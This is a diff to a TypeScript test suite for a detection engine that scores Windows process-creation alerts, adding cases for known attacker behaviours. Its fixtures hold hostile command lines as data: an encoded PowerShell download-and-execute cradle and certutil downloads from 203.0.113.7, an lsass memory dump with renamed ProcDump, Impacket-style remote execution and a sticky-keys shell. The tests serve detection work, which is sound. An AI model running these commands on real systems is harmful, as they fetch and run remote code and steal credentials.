@@ -51,6 +51,9 @@ function decideOn(alert: CanonicalAlert, spec: EnrichmentSpec | null = {}, creat
   return decide({ alert, enrichment, policy: policyOf() });
 }
 
+/** `powershell -EncodedCommand` takes UTF-16LE base64. */
+const utf16Base64 = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
+
 const codes = (decision: Decision) => decision.reasons.filter((r) => r.weight > 0).map((r) => r.code);
 const reason = (decision: Decision, code: string) => decision.reasons.find((r) => r.code === code);
 
@@ -174,7 +177,100 @@ describe('behavioural indicators', () => {
           commandLine: 'certutil.exe -urlcache -split -f http://203.0.113.7/p.txt C:\\Users\\Public\\p.exe',
         }),
       ),
-      indicator: 'office-lolbin-network-or-decode',
+      indicator: 'office-lolbin-payload',
+      verdict: 'malicious',
+    },
+    {
+      name: 'powershell whose encoded command downloads and runs code (decoded as an analyst would)',
+      alert: alertOf(
+        proc(2100, EXPLORER, MS),
+        proc(6500, POWERSHELL, MS, {
+          commandLine: `powershell.exe -enc ${utf16Base64("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')")}`,
+        }),
+      ),
+      indicator: 'download-and-execute',
+      verdict: 'malicious',
+    },
+    {
+      name: 'certutil fetching an executable into C:\\Windows\\Temp',
+      alert: alertOf(
+        proc(4100, CMD, MS),
+        proc(6600, `${SYS32}\\certutil.exe`, MS, {
+          commandLine: 'certutil.exe -urlcache -f http://203.0.113.7/l.exe C:\\Windows\\Temp\\l.exe',
+        }),
+      ),
+      indicator: 'lolbin-download',
+      verdict: 'malicious',
+    },
+    {
+      name: 'tomcat9.exe starting cmd.exe /c net group "domain admins" /domain',
+      alert: alertOf(
+        proc(3900, 'C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\tomcat9.exe', 'unsigned'),
+        proc(6700, CMD, MS, { commandLine: 'cmd.exe /c net group "domain admins" /domain' }),
+      ),
+      indicator: 'web-shell-discovery',
+      verdict: 'malicious',
+    },
+    {
+      name: 'a renamed ProcDump dumping lsass.exe',
+      alert: alertOf(
+        proc(4100, CMD, MS),
+        proc(6800, 'C:\\Windows\\Temp\\dbgh64.exe', 'Microsoft Corporation', {
+          commandLine: 'dbgh64.exe -accepteula -r -ma lsass.exe C:\\Windows\\Temp\\dbg.dmp',
+          originalFileName: 'procdump',
+        }),
+      ),
+      indicator: 'credential-dumping',
+      verdict: 'malicious',
+    },
+    {
+      name: 'WmiPrvSE.exe starting cmd.exe that writes to \\\\127.0.0.1\\ADMIN$ (Impacket wmiexec)',
+      alert: alertOf(
+        proc(2800, `${SYS32}\\wbem\\WmiPrvSE.exe`, MS),
+        proc(6900, CMD, MS, { commandLine: 'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1721099051.552 2>&1' }),
+      ),
+      indicator: 'remote-exec-output-to-admin-share',
+      verdict: 'malicious',
+    },
+    {
+      name: 'services.exe starting PsExec’s own service from C:\\Windows (admin or attacker)',
+      alert: alertOf(
+        proc(700, `${SYS32}\\services.exe`, MS),
+        proc(7000, 'C:\\Windows\\PSEXESVC.exe', 'Microsoft Corporation'),
+        SYSTEM,
+      ),
+      indicator: 'service-binary-in-windows-root',
+      verdict: 'suspicious',
+    },
+    {
+      name: 'services.exe starting an unsigned, randomly named binary in C:\\Windows (Metasploit psexec)',
+      alert: alertOf(
+        proc(700, `${SYS32}\\services.exe`, MS),
+        proc(7010, 'C:\\Windows\\ZsKvHqTr.exe', 'unsigned'),
+        SYSTEM,
+      ),
+      indicator: 'unsigned-service-binary-in-windows-root',
+      verdict: 'malicious',
+    },
+    {
+      name: 'InstallUtil /U on a DLL in C:\\Users\\Public',
+      alert: alertOf(
+        proc(4100, CMD, MS),
+        proc(7100, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe', MS, {
+          commandLine: 'InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\Libraries\\msupd.dll',
+        }),
+      ),
+      indicator: 'lolbin-proxy-user-file',
+      verdict: 'suspicious',
+    },
+    {
+      name: 'winlogon.exe starting sethc.exe that is cmd.exe under another name (sticky keys)',
+      alert: alertOf(
+        proc(612, `${SYS32}\\winlogon.exe`, MS),
+        proc(7200, `${SYS32}\\sethc.exe`, MS, { commandLine: 'sethc.exe 211', originalFileName: 'Cmd.Exe' }),
+        SYSTEM,
+      ),
+      indicator: 'critical-process-spawned-shell',
       verdict: 'malicious',
     },
   ];
@@ -285,7 +381,7 @@ describe('benign without reputation, when the host verified the pair (DESIGN.md 
     expect(decision.reasons.find((r) => r.code === 'trusted-signature')?.weight ?? -99).toBeGreaterThanOrEqual(0);
   });
 
-  it('is not earned without an expected relationship: explorer.exe → notepad.exe, both verified', () => {
+  it('explorer.exe → notepad.exe, both verified: the shell starting an OS program is an expected relationship', () => {
     const notepad = proc(2300, `${SYS32}\\notepad.exe`, MS);
     const explorer = proc(2100, EXPLORER, MS);
     const decision = decideOn(alertOf(explorer, notepad), {
@@ -294,6 +390,33 @@ describe('benign without reputation, when the host verified the pair (DESIGN.md 
       parentReputation: null,
       childReputation: null,
     });
+    expect(decision.verdict).toBe('benign');
+    expect(reason(decision, 'host-verified-os-pair')).toBeDefined();
+  });
+
+  it('is never earned by a shell or LOLBin: explorer.exe → cmd.exe, both verified, goes to an analyst', () => {
+    const cmd = proc(2400, CMD, MS);
+    const explorer = proc(2100, EXPLORER, MS);
+    const decision = decideOn(alertOf(explorer, cmd), {
+      parentHostFacts: osBinary(EXPLORER),
+      childHostFacts: osBinary(CMD),
+      parentReputation: null,
+      childReputation: null,
+    });
+    expect(decision.verdict).toBe('suspicious');
+    expect(reason(decision, 'host-verified-os-pair')).toBeUndefined();
+  });
+
+  it('is not earned by an unexpected relationship: winlogon.exe → notepad.exe, both verified', () => {
+    const decision = decideOn(
+      alertOf(proc(612, `${SYS32}\\winlogon.exe`, MS), proc(2301, `${SYS32}\\notepad.exe`, MS), SYSTEM),
+      {
+        parentHostFacts: osBinary(`${SYS32}\\winlogon.exe`),
+        childHostFacts: osBinary(`${SYS32}\\notepad.exe`),
+        parentReputation: null,
+        childReputation: null,
+      },
+    );
     expect(decision.verdict).toBe('suspicious');
     expect(reason(decision, 'host-verified-os-pair')).toBeUndefined();
   });
@@ -395,5 +518,50 @@ describe('creators the event names only by PID (4688 before Windows Server 2016)
     const decision = decideOn(lsass, {}, null);
     expect(decision.reasons.map((r) => r.code)).not.toContain('unexpected-parent');
     expect(decision.reasons.map((r) => r.code)).not.toContain('expected-parent');
+  });
+});
+
+describe('the rules older histories replay (decided in workflow code before these rules)', () => {
+  const legacy = (alert: CanonicalAlert, spec: EnrichmentSpec = {}) =>
+    decide({ alert, enrichment: enrich(alert, spec), policy: policyOf(), behaviours: false });
+
+  it('have no behavioural indicators, no decoded commands and the old look-alike weight', () => {
+    const lsassShell = alertOf(
+      proc(700, `${SYS32}\\lsass.exe`, MS),
+      proc(7400, CMD, MS, { commandLine: 'cmd.exe /c whoami' }),
+      SYSTEM,
+    );
+    expect(decideOn(lsassShell).verdict).toBe('malicious');
+    const old = legacy(lsassShell);
+    expect(old.verdict).toBe('suspicious');
+    expect(old.reasons.map((r) => r.code).filter((code) => code in BEHAVIOURS)).toEqual([]);
+
+    const encoded = alertOf(
+      proc(2100, EXPLORER, MS),
+      proc(6120, POWERSHELL, MS, { commandLine: `powershell -enc ${ENCODED}` }),
+    );
+    expect(reason(legacy(encoded), 'suspicious-command-line')?.evidence).not.toContain('decoded');
+    expect(reason(decideOn(encoded), 'suspicious-command-line')?.evidence).toContain('in the decoded command');
+
+    const lookAlike = alertOf(
+      proc(700, `${SYS32}\\services.exe`, MS),
+      proc(1210, `${SYS32}\\svc\u200bhost.exe`, 'unsigned'),
+      SYSTEM,
+    );
+    expect(reason(legacy(lookAlike), 'look-alike-name')?.weight).toBe(55);
+    expect(reason(decideOn(lookAlike), 'look-alike-name')?.weight).toBe(REASON_WEIGHTS['look-alike-name']);
+  });
+
+  it('never clear a pair on the host’s verification alone', () => {
+    const services = proc(700, `${SYS32}\\services.exe`, MS);
+    const svchost = proc(1300, `${SYS32}\\svchost.exe`, MS);
+    const spec: EnrichmentSpec = {
+      parentHostFacts: osBinary(`${SYS32}\\services.exe`),
+      childHostFacts: osBinary(`${SYS32}\\svchost.exe`),
+      parentReputation: null,
+      childReputation: null,
+    };
+    expect(legacy(alertOf(services, svchost, SYSTEM), spec).verdict).toBe('suspicious');
+    expect(decideOn(alertOf(services, svchost, SYSTEM), spec).verdict).toBe('benign');
   });
 });
